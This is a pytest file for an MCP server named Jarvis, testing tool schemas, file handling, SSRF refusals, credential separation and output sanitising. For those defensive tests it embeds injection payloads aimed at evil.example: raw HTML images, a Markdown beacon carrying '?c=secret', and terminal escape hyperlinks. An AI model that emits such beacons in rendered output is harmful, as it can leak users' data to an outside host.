"""Jarvis as an MCP server (issue 14), met through the real `mcp` client over streamable HTTP at
/gradio_api/mcp/: the web app with the API served as app.py serves them (guards included), the
scripted LLM server and tiny real models standing for the outside world. Nothing in jarvis is patched."""
from __future__ import annotations

import asyncio
import base64
import io
import json
from pathlib import Path
from typing import Any

import httpx
import jsonschema
import pytest
from mcp import ClientSession, types
from mcp.client.streamable_http import streamable_http_client

from jarvis.frontends.safe_text import address, model_text
from tests.fakes.llm_server import ScriptedLLM
from tests.helpers import config_for, plan_json
from tests.test_hardening_server import api
from tests.test_hardening_web import web
from tests.uiapp import CAPTIONER, TTS, ensure_models

pytestmark = pytest.mark.timeout(240)
STREET = Path(__file__).resolve().parent.parent / "examples" / "street.png"
DETECTOR = "hustvl/yolos-tiny"
TOKEN = "tok-mcp"
# a model card's summary as a hostile author could write it: raw HTML, a remote image, a link hiding its address
HOSTILE = "Captions <img src=https://evil.example/i.png> ![beacon](https://evil.example/p.png) [docs](https://evil.example/)"


@pytest.fixture(scope="module")
def catalog(tmp_path_factory, hub_cache) -> Path:
    ensure_models(hub_cache, {CAPTIONER, TTS, DETECTOR})
    rows = [{"id": CAPTIONER, "task": "image-to-text", "downloads": 100, "local": True, "description": HOSTILE},
            {"id": TTS, "task": "text-to-speech", "downloads": 100, "local": True},
            {"id": DETECTOR, "task": "object-detection", "downloads": 100, "local": True}]
    path = tmp_path_factory.mktemp("mcp") / "catalog.jsonl"
    path.write_text("\n".join(json.dumps(r) for r in rows) + "\n", encoding="utf-8")
    return path


def settings(llm_url: str, catalog: Path, key: str = "sk-server", **server) -> Any:
    server.setdefault("access_token", TOKEN)
    return config_for(llm_url, key=key, catalog={"path": str(catalog)}, local={"device": "cpu"},
                      inference={"mode": "local"}, server=server)


def mcp(url: str, work, token: str = TOKEN, **headers: str):
    """Run `work(session)` in an MCP client session on the app's endpoint; its result."""
    async def go():
        sent = {"Authorization": f"Bearer {token}", **headers} if token else dict(headers)
        async with httpx.AsyncClient(headers=sent, timeout=httpx.Timeout(30, read=200)) as http, \
                streamable_http_client(url + "/gradio_api/mcp/", http_client=http) as (read, write, _), \
                ClientSession(read, write) as session:
            await session.initialize()
            return await work(session)
    return asyncio.run(go())


def call(url: str, name: str, arguments: dict, token: str = TOKEN, **headers: str):
    """(result, progress messages) of one tool call."""
    progress: list[str] = []

    async def on_progress(value: float, total: float | None, message: str | None) -> None:
        progress.append(message or "")

    async def work(session: ClientSession):
        return await session.call_tool(name, arguments, progress_callback=on_progress)
    return mcp(url, work, token, **headers), progress


def texts(result: types.CallToolResult) -> list[str]:
    return [c.text for c in result.content if isinstance(c, types.TextContent)]


def data_url(path: Path) -> str:
    return "data:image/png;base64," + base64.b64encode(path.read_bytes()).decode()


def test_tools_are_listed_with_their_schema_and_gradios_endpoints_are_not_tools(catalog, monkeypatch):
    monkeypatch.setenv("GRADIO_MCP_SERVER", "true")     # a Space may set it: Gradio's own server stays off
    with ScriptedLLM(key="sk-server") as llm, web(settings(llm.url, catalog)) as site:
        async def work(session: ClientSession):
            return (await session.list_tools()).tools
        tools = {t.name: t for t in mcp(site.url, work)}
        assert set(tools) == {"jarvis", "list_task_types", "list_models", "run_task"}
        jarvis = tools["jarvis"]
        assert jarvis.inputSchema["required"] == ["request"]
        props = jarvis.inputSchema["properties"]
        assert props["request"]["type"] == "string" and "plain words" in props["request"]["description"]
        assert {"type": "array", "items": {"type": "string"}} in props["files"]["anyOf"]
        assert "data: URL" in props["files"]["description"]
        assert jarvis.inputSchema["additionalProperties"] is False
        assert "image content" in jarvis.description and jarvis.annotations.readOnlyHint is False
        assert tools["run_task"].inputSchema["required"] == ["task", "model"]
        assert tools["list_task_types"].annotations.readOnlyHint is True
        # the tools returning data publish what their structured content is; `jarvis` answers in content only
        assert tools["jarvis"].outputSchema is None
        models = tools["list_models"].outputSchema
        assert models["required"] == ["task", "mode", "models"] and models["additionalProperties"] is False
        model = models["$defs"]["ModelInfo"]
        assert model["required"] == ["id", "downloads", "likes", "runs", "description"]
        assert model["properties"]["runs"]["items"] == {"enum": ["local", "remote", "space"], "type": "string"}
        kinds = tools["list_task_types"].outputSchema
        assert kinds["properties"]["mode"]["enum"] == ["local", "remote", "hybrid"]
        assert kinds["$defs"]["TaskTypeInfo"]["properties"]["inputs"]["items"] == {"$ref": "#/$defs/TaskInput"}
        record = tools["run_task"].outputSchema
        assert record["required"] == ["status", "model", "executor", "outputs", "detail", "error", "attempts"]
        assert record["properties"]["status"]["enum"] == ["pending", "running", "done", "failed", "skipped"]
        assert record["$defs"]["AttemptInfo"]["required"] == ["executor", "model", "ok", "seconds"]
        # Gradio's own MCP routes are not served: its schema route would list chat/status/stop/clear
        assert httpx.get(site.url + "/gradio_api/mcp/schema", headers={"Authorization": f"Bearer {TOKEN}"}
                         ).status_code == 404
        # a browser opening the URL is told what it is; without the access token, nothing
        page = httpx.get(site.url + "/gradio_api/mcp/", headers={"Authorization": f"Bearer {TOKEN}"})
        assert page.status_code == 200 and "MCP server" in page.text
        assert httpx.post(site.url + "/gradio_api/mcp/", json={}).status_code == 401


def test_jarvis_answers_an_image_sent_as_a_data_url_with_image_audio_and_progress(catalog):
    plan = plan_json(("object-detection", {"image": "image-1.png"}), ("image-to-text", {"image": "image-1.png"}),
                     ("text-to-speech", {"text": "<GENERATED>-1"}, [1]))
    answer = "I found the objects in the boxes image and read the caption aloud."
    with ScriptedLLM(plan=plan, answer=answer, key="sk-server") as llm, \
            web(settings(llm.url, catalog, access_token=f"{TOKEN},tok-other")) as site:
        result, progress = call(site.url, "jarvis", {"request": "Find the objects, caption this and read it aloud",
                                                     "files": [data_url(STREET)]})
        assert not result.isError, texts(result)
        said, workflow = texts(result)
        links = {c.mimeType: c for c in result.content if isinstance(c, types.ResourceLink)}
        assert set(links) == {"image/png", "audio/wav"}
        # the answer, then the links of the files it did not name (their full addresses shown)
        assert said == "\n".join([answer, "", address(str(links["image/png"].uri)), address(str(links["audio/wav"].uri))])
        assert "task 0 object-detection with hustvl/yolos-tiny on local: done" in workflow
        assert "task 2 text-to-speech with facebook/mms-tts-eng on local: done" in workflow
        images = [c for c in result.content if isinstance(c, types.ImageContent)]
        assert len(images) == 1 and images[0].mimeType == "image/png"
        from PIL import Image
        assert Image.open(io.BytesIO(base64.b64decode(images[0].data))).size == Image.open(STREET).size
        audio_url = str(links["audio/wav"].uri)
        assert audio_url.startswith(site.url + "/files/") and "Authorization" in links["audio/wav"].description
        # the spoken answer: a WAV for the caller's token, nothing for anyone else
        import soundfile as sf
        got = httpx.get(audio_url, headers={"Authorization": f"Bearer {TOKEN}"})
        assert got.status_code == 200
        samples, rate = sf.read(io.BytesIO(got.content))
        assert rate > 0 and len(samples) > 0
        assert httpx.get(audio_url).status_code == 404
        assert httpx.get(audio_url, headers={"Authorization": "Bearer tok-other"}).status_code == 404
        # progress followed the run's events, in order
        assert progress[:2] == ["planned task 0: object-detection", "task 0 (object-detection): model hustvl/yolos-tiny"]
        assert "plan ready: 3 task(s): 0 object-detection, 1 image-to-text, 2 text-to-speech" in progress
        done = [p for p in progress if p.endswith(" s") and " done in " in p]
        assert len(done) == 3 and progress[-1] == "writing the answer"
        assert progress.index("task 1 (image-to-text) started on nlpconnect/vit-gpt2-image-captioning") \
            < progress.index("task 2 (text-to-speech) started on facebook/mms-tts-eng")
        # the planner saw the attached image under its staged name
        assert "image-1.png" in json.dumps(llm.requests[0]["json"]["messages"])


def test_a_local_path_or_private_url_is_refused_and_the_server_keeps_serving(catalog):
    with ScriptedLLM(plan="[]", chat="Still here.", key="sk-server") as llm, web(settings(llm.url, catalog)) as site:
        result, _ = call(site.url, "jarvis", {"request": "caption this", "files": ["/home/me/photo.png"]})
        assert result.isError
        message = texts(result)[0]
        assert "files[0] ('/home/me/photo.png') is neither an http(s) URL nor a data: URL" in message
        assert "send the file's content as a data: URL" in message
        # a URL to this machine: the guarded fetcher refuses it (public addresses only)
        result, _ = call(site.url, "jarvis", {"request": "caption this", "files": [site.url + "/files/x/y.png"]})
        assert result.isError and "refused" in texts(result)[0] and "127.0.0.1" in texts(result)[0]
        result, _ = call(site.url, "jarvis", {"request": "caption", "files": ["data:text/html;base64,PGI+"]})
        assert result.isError and "not an image, audio or video type" in texts(result)[0]
        result, _ = call(site.url, "jarvis", {"request": "hello"})
        assert not result.isError and texts(result) == ["Still here."]
        assert not any(r["json"] and "photo.png" in json.dumps(r["json"]) for r in llm.requests)


def test_credentials_are_the_callers_or_the_servers_never_a_mix(catalog):
    with ScriptedLLM(plan="[]", chat="server's", key="sk-server") as server_llm, \
            ScriptedLLM(plan="[]", chat="caller's", key="sk-caller") as caller_llm, \
            web(settings(server_llm.url, catalog)) as site:
        result, _ = call(site.url, "jarvis", {"request": "hi"})
        assert texts(result) == ["server's"]
        result, _ = call(site.url, "jarvis", {"request": "hi"}, **{"X-OpenAI-Api-Key": "sk-caller",
                                                                   "X-LLM-Base-URL": caller_llm.url})
        assert texts(result) == ["caller's"]
        # naming an endpoint without bringing its key: the server's key does not go there
        result, _ = call(site.url, "jarvis", {"request": "hi"}, **{"X-LLM-Base-URL": caller_llm.url})
        assert result.isError and "must bring its own key" in texts(result)[0]
        # the caller's key alone goes to the server's endpoint, which refuses a key it does not know
        result, _ = call(site.url, "jarvis", {"request": "hi"}, **{"X-OpenAI-Api-Key": "sk-caller"})
        assert result.isError and "rejected the API key" in texts(result)[0]
    assert {r["headers"].get("authorization") for r in caller_llm.requests} == {"Bearer sk-caller"}
    assert {r["headers"].get("authorization") for r in server_llm.requests} == {"Bearer sk-server"}


def schemas(url: str) -> dict[str, dict]:
    """Each tool's outputSchema, as list_tools gives it."""
    async def work(session: ClientSession):
        return {t.name: t.outputSchema for t in (await session.list_tools()).tools}
    return mcp(url, work)


def test_hosts_that_plan_themselves_list_task_types_and_models_and_run_one_task(catalog):
    with ScriptedLLM(key="sk-server") as llm, web(settings(llm.url, catalog)) as site:
        output = schemas(site.url)
        result, _ = call(site.url, "list_task_types", {})
        jsonschema.validate(result.structuredContent, output["list_task_types"])
        assert result.structuredContent["mode"] == "local"
        kinds = {t["name"]: t for t in result.structuredContent["task_types"]}
        assert set(kinds) == {"image-to-text", "text-to-speech", "object-detection", "canny-control"}
        assert kinds["image-to-text"]["inputs"] == [{"type": "image", "meaning": "image"}]
        assert kinds["canny-control"]["needs_model"] is False and kinds["canny-control"]["outputs"] == ["image"]
        assert json.loads(texts(result)[0]) == result.structuredContent
        result, _ = call(site.url, "list_models", {"task": "image-captioning"})
        jsonschema.validate(result.structuredContent, output["list_models"])
        assert result.structuredContent == {"task": "image-to-text", "mode": "local", "models": [
            {"id": CAPTIONER, "downloads": 100, "likes": None, "runs": ["local"], "description": HOSTILE}]}
        # the text for clients that ignore structured content: the same JSON, which a host rendering it
        # as Markdown cannot turn into HTML, an image load or a link
        [text] = texts(result)
        assert json.loads(text) == result.structuredContent
        assert "<" not in text and "](" not in text and "\\u003cimg src=https://evil.example/i.png>" in text
        result, _ = call(site.url, "list_models", {"task": "painting"})
        assert result.isError and "known task types are" in texts(result)[0]
        result, progress = call(site.url, "run_task", {"task": "image-to-text", "model": CAPTIONER,
                                                       "files": [data_url(STREET)]})
        assert not result.isError, texts(result)
        record = result.structuredContent
        jsonschema.validate(record, output["run_task"])
        assert record["status"] == "done" and record["executor"] == "local" and record["model"] == CAPTIONER
        assert record["error"] is None and record["outputs"] == {"text": record["detail"]["caption"]}
        [attempt] = record["attempts"]
        assert attempt["executor"] == "local" and attempt["model"] == CAPTIONER and attempt["ok"] is True
        assert texts(result)[0] == model_text(record["outputs"]["text"]) and record["outputs"]["text"] == \
            record["detail"]["caption"]
        assert progress[0] == "plan ready: 1 task(s): 0 image-to-text"
        result, _ = call(site.url, "run_task", {"task": "image-to-text", "model": "someone/else", "files": [
            data_url(STREET)]})
        assert result.isError and f"not a candidate for image-to-text in local mode; choose one of: {CAPTIONER}" \
            in texts(result)[0]
        result, _ = call(site.url, "run_task", {"task": "text-to-speech", "model": TTS})
        assert result.isError and "text-to-speech needs 1 text input(s)" in texts(result)[0]
    assert llm.requests == []       # no LLM for hosts that plan themselves


def test_the_api_alone_serves_mcp_too():
    """`python -m jarvis serve`: no Gradio, the same endpoint."""
    with ScriptedLLM(plan="[]", chat="From the API alone.") as llm, api(llm.url) as live:
        result, _ = call(live.url, "jarvis", {"request": "hi"}, token="tok-bob")
        assert texts(result) == ["From the API alone."]
        async def work(session: ClientSession):
            return [t.name for t in (await session.list_tools()).tools]
        assert mcp(live.url, work, token="tok-alice") == ["jarvis", "list_task_types", "list_models", "run_task"]
        with pytest.raises(Exception):
            mcp(live.url, work, token="tok-mallory")


def test_model_output_comes_back_as_inert_text(catalog):
    """An answer with escape sequences, a hyperlink hiding its address, raw HTML and a remote Markdown
    image: the agent's host, which renders a tool's text as Markdown, gets text that loads nothing."""
    hostile = ("Done. \x1b[31mred\x1b[0m \x1b]8;;https://evil.example/x\x1b\\click\x1b]8;;\x1b\\ "
               "<img src=https://evil.example/i.png> ![beacon](https://evil.example/p.png?c=secret)")
    with ScriptedLLM(plan="[]", chat=hostile, key="sk-server") as llm, web(settings(llm.url, catalog)) as site:
        result, _ = call(site.url, "jarvis", {"request": "hello"})
    assert not result.isError
    [said] = texts(result)
    assert "\x1b" not in said and "<img" not in said and "![" not in said
    assert "&lt;img src=" in said and "🖼️ beacon ([`https://evil.example/p.png?c=secret`]" in said
